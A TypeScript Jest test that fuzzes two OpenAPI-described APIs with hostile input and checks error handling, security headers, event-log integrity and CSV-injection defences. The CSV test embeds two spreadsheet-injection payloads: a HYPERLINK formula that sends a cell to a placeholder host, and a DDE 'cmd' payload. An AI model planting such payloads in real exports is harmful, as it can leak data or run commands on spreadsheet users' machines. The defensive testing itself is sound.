import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { seedHistory } from '@cci/domain';
import { EventAppender } from '@cci/event-log';
import { nationalProjector, regionalProjector } from '@cci/projector';
import { DeadLetters } from '@cci/read-model-store';
import fc from 'fast-check';

import { readEvents, readTopic, topicSize } from '../test/event-log.js';
import { call, type Reply } from '../test/http.js';
import {
  endpointsOf,
  intruderMarkers,
  readOpenApi,
  requestArbitrary,
  type Endpoint,
  type FuzzCase,
} from '../test/openapi-fuzz.js';
import { Platform } from '../test/platform.js';
import { caughtUp, expectedReadModels, storedReadModels } from '../test/projections.js';
import { tenancyBreaches } from '../test/tenancy.js';

const apps = join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'apps');
const documents = {
  ingest: readOpenApi(join(apps, 'ingest-api', 'openapi.json')),
  read: readOpenApi(join(apps, 'read-api', 'openapi.json')),
};
const bodyLimits = { ingest: 1_048_576, read: 65_536 };

/** At least this many requests (CHAOS_FUZZ_REQUESTS for a longer run); they go in concurrent groups, one group per property run. */
const requests = Number(process.env.CHAOS_FUZZ_REQUESTS ?? 10_000);
const group = 24;

/** What a stack trace, a source position or a server path looks like in a response. */
const leak = /\bat [\w$.<>]+ \(|\.(?:js|ts|mjs|cjs):\d+:\d+|node_modules|\/work\/|\/home\/|file:\/\//;

/** Every response, errors included, carries these (helmet's defaults). */
const securityHeaders = [
  'content-security-policy',
  'strict-transport-security',
  'x-content-type-options',
  'x-frame-options',
  'referrer-policy',
  'cross-origin-resource-policy',
];

// A property-based fuzzer over the two OpenAPI documents: every operation, with generated and hostile
// paths, query strings, headers, keys and bodies (mass assignment, Mongo operators, prototype keys,
// huge numbers, impossible dates, broken encodings, oversized and deep bodies, wrong content types).
describe('hostile input on every endpoint of both APIs', () => {
  const platform = new Platform('chaos-fuzz');
  const reference = platform.reference;
  const seed = seedHistory(reference);
  const accepted = new Set<string>();
  const figures = { requests: 0, byStatus: {} as Record<number, number>, accepted: 0, seed: 0 };
  const base = { ingest: '', read: '' };
  const keys = new Map<string, string>();

  const endpoints: Endpoint[] = [
    ...endpointsOf('ingest', documents.ingest),
    ...endpointsOf('read', documents.read),
    {
      api: 'ingest',
      method: 'POST',
      template: '/v1/commands/{command}',
      operation: {
        parameters: [{ name: 'command', in: 'path', required: true, schema: { type: 'string' } }],
        requestBody: {
          content: { 'application/json': { schema: { $ref: '#/components/schemas/ReportIndicator' } } },
        },
      },
    },
  ];

  /** What is wrong with one answer; empty when it keeps every promise. */
  function problemsOf(request: FuzzCase, reply: Reply): string[] {
    const found: string[] = [];
    if (reply.status >= 500) found.push(`status ${reply.status}: ${reply.text.slice(0, 300)}`);
    if (leak.test(reply.text)) found.push(`leaks a stack trace or a path: ${reply.text.slice(0, 300)}`);
    if (reply.headers['x-powered-by'] !== undefined) found.push('X-Powered-By is sent');
    for (const name of securityHeaders) if (reply.headers[name] === undefined) found.push(`no ${name}`);
    if (reply.headers['x-content-type-options'] !== 'nosniff')
      found.push('X-Content-Type-Options is not nosniff');
    const isApi = request.call.path.startsWith('/v1/');
    if (isApi && reply.status >= 400 && request.call.method !== 'HEAD') {
      if (reply.headers['content-type'] !== 'application/problem+json; charset=utf-8')
        found.push(`error as ${String(reply.headers['content-type'])}`);
      const detail = (reply.json as { detail?: unknown } | null)?.detail;
      if (typeof detail !== 'string' || detail.length < 10) found.push('error without a French detail');
    }
    return found;
  }

  /** The events a write answer says it appended just now (replays point at earlier ones). */
  function recordedBy(reply: Reply): string[] {
    if (reply.status !== 200 && reply.status !== 201) return [];
    const body = reply.json as {
      outcome?: string;
      events?: { eventId: string }[];
      results?: { outcome?: string; events?: { eventId: string }[] }[];
    } | null;
    if (reply.headers['idempotent-replayed'] === 'true') return [];
    const items = body?.results ?? (body ? [body] : []);
    return items
      .filter((i) => i.outcome === 'recorded')
      .flatMap((i) => i.events?.map((e) => e.eventId) ?? []);
  }

  beforeAll(async () => {
    await platform.createTopics();
    const appender = new EventAppender(platform.kafka, { topic: platform.eventsTopic });
    await appender.append(seed);
    await appender.disconnect();
    for (const cci of reference.ccis) keys.set(cci.id, (await platform.key(cci.id)).key);
    const unlimited = { RATE_LIMIT_CAPACITY: '1000000', RATE_LIMIT_PER_SECOND: '1000000' };
    base.ingest = await platform.start('ingest', unlimited);
    await platform.start('regional');
    await platform.start('national');
    base.read = await platform.start('read', unlimited);
  }, 120_000);

  afterAll(async () => {
    console.log(`hostile input figures: ${JSON.stringify(figures)}`);
    await platform.dispose();
  }, 60_000);

  it(`answers ${requests.toLocaleString('en')} generated requests with no 5xx, no stack trace, and the security headers on every response`, async () => {
    const before = await topicSize(platform.kafka, platform.eventsTopic);
    expect(before).toBe(seed.length);
    const arbitrary = requestArbitrary(
      endpoints,
      documents,
      reference,
      { cciIds: [...keys.keys()], key: (cciId) => keys.get(cciId)! },
      {
        bodyLimits,
        expensive: (endpoint, cciId) =>
          ['/v1/monitoring/rebuilds', '/v1/monitoring/reconciliation'].includes(endpoint.template) &&
          reference.cci(cciId)?.kind !== 'territorial',
      },
    );
    figures.seed = Number(process.env.CHAOS_FUZZ_SEED ?? Date.now() % 1_000_000);
    await fc.assert(
      fc.asyncProperty(fc.array(arbitrary, { minLength: group, maxLength: group }), async (cases) => {
        const replies = await Promise.all(cases.map((c) => call(base[c.api], c.call)));
        figures.requests += replies.length;
        const failures = cases.flatMap((c, i) => {
          const reply = replies[i]!;
          figures.byStatus[reply.status] = (figures.byStatus[reply.status] ?? 0) + 1;
          if (c.api === 'ingest') for (const id of recordedBy(reply)) accepted.add(id);
          const found = problemsOf(c, reply);
          return found.length === 0
            ? []
            : [
                `${c.call.method} ${c.call.path.slice(0, 200)} as ${c.keyCci ?? 'nobody'} body ${String(c.call.body ?? '').slice(0, 200)} → ${found.join('; ')}`,
              ];
        });
        if (failures.length > 0) throw new Error(failures.join('\n'));
      }),
      { numRuns: Math.ceil(requests / group), seed: figures.seed, endOnFailure: true },
    );
    figures.accepted = accepted.size;
    // Some generated writes were valid: the checks below on what they appended are not vacuous.
    expect(accepted.size).toBeGreaterThan(0);
    expect(figures.requests).toBeGreaterThanOrEqual(requests);
  }, 300_000);

  it('appended exactly the events of the accepted requests: nothing for a refused one, no mass-assigned field, no other author', async () => {
    const seedIds = new Set(seed.map((e) => e.eventId));
    const logged = (await readEvents(platform.kafka, platform.eventsTopic, reference))
      .map((e) => e.event)
      .filter((e) => !seedIds.has(e.eventId));
    expect(logged.map((e) => e.eventId).sort()).toEqual([...accepted].sort());
    // The mass-assignment fields carried markers: none reached the log.
    const text = (await readTopic(platform.kafka, platform.eventsTopic))
      .map((m) => m.value?.toString('utf8') ?? '')
      .join('\n');
    for (const marker of intruderMarkers)
      expect({ marker, found: text.includes(marker) }).toEqual({ marker, found: false });
    expect(await tenancyBreaches(logged, platform.credentialsFile, reference)).toEqual([]);
    for (const event of logged) expect(event.source.service).toBe('ingest-api');
  });

  it('projects every accepted event: no dead letter, and read models equal to the pure projections of the log', async () => {
    const connection = await platform.mongo();
    const size = await topicSize(platform.kafka, platform.eventsTopic);
    await caughtUp(connection, 'regional', platform.eventsTopic, size, () => platform.output());
    await caughtUp(connection, 'national', platform.eventsTopic, size, () => platform.output());
    const letters = new DeadLetters(connection);
    expect(await letters.list({})).toEqual([]);
    const events = (await readEvents(platform.kafka, platform.eventsTopic, reference)).map((e) => e.event);
    expect(await storedReadModels(connection, regionalProjector)).toEqual(
      expectedReadModels(regionalProjector, events, reference),
    );
    expect(await storedReadModels(connection, nationalProjector)).toEqual(
      expectedReadModels(nationalProjector, events, reference),
    );
  });

  it('exports no cell that a spreadsheet would run as a formula (CSV injection)', async () => {
    const formula = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")';
    const rouen = keys.get('cci-rouen-metropole')!;
    const normandie = keys.get('cci-normandie')!;
    // The generated requests above may have declared Rouen's figure of a quarter, or closed one of
    // Normandie's campaigns (each seed writes other cells): the figure goes to a quarter they left alone.
    const touched = new Set(
      (await readEvents(platform.kafka, platform.eventsTopic, reference))
        .map(({ event }) => event.payload as { period?: string; cciId?: string; regionId?: string })
        .filter((p) => p.cciId === 'cci-rouen-metropole' || p.regionId === 'normandie')
        .map((p) => p.period),
    );
    const period = reference
      .reportingPeriods('com-normandie-2023-2027')
      .map((p) => p.period)
      .filter((p) => p.includes('-T') && p <= '2025-T4')
      .reverse()
      .find((p) => !touched.has(p));
    expect(period).toBeDefined();
    const reported = await call(base.ingest, {
      method: 'POST',
      path: '/v1/commands/report-indicator',
      headers: { authorization: `Bearer ${rouen}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        cciId: 'cci-rouen-metropole',
        indicatorId: 'transmissions-accompagnees',
        period,
        value: 3,
        unitId: 'entreprises',
        comment: formula,
      }),
    });
    const planned = await call(base.ingest, {
      method: 'POST',
      path: '/v1/commands/plan-action',
      headers: { authorization: `Bearer ${normandie}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        actionId: 'action-formule',
        regionId: 'normandie',
        ownerCciId: 'cci-normandie',
        title: "@SUM(1+1)*cmd|' /C calc'!A0",
        plannedOn: '2025-02-01',
      }),
    });
    expect([reported.status, planned.status]).toEqual([201, 201]);
    const connection = await platform.mongo();
    await caughtUp(
      connection,
      'regional',
      platform.eventsTopic,
      await topicSize(platform.kafka, platform.eventsTopic),
    );
    const cells: string[] = [];
    for (const table of ['indicateurs', 'actions']) {
      const csv = await call(base.read, {
        method: 'GET',
        path: `/v1/regions/normandie/exports/${table}`,
        headers: { authorization: `Bearer ${normandie}` },
      });
      expect(csv.status).toBe(200);
      cells.push(...csvCells(csv.text.replace(/^\uFEFF/, '')));
    }
    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});

/** The cells of a `;`-separated CSV with RFC 4180 quoting, unquoted. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';' || c === '\n') {
      cells.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += c;
  }
  return cells;
}
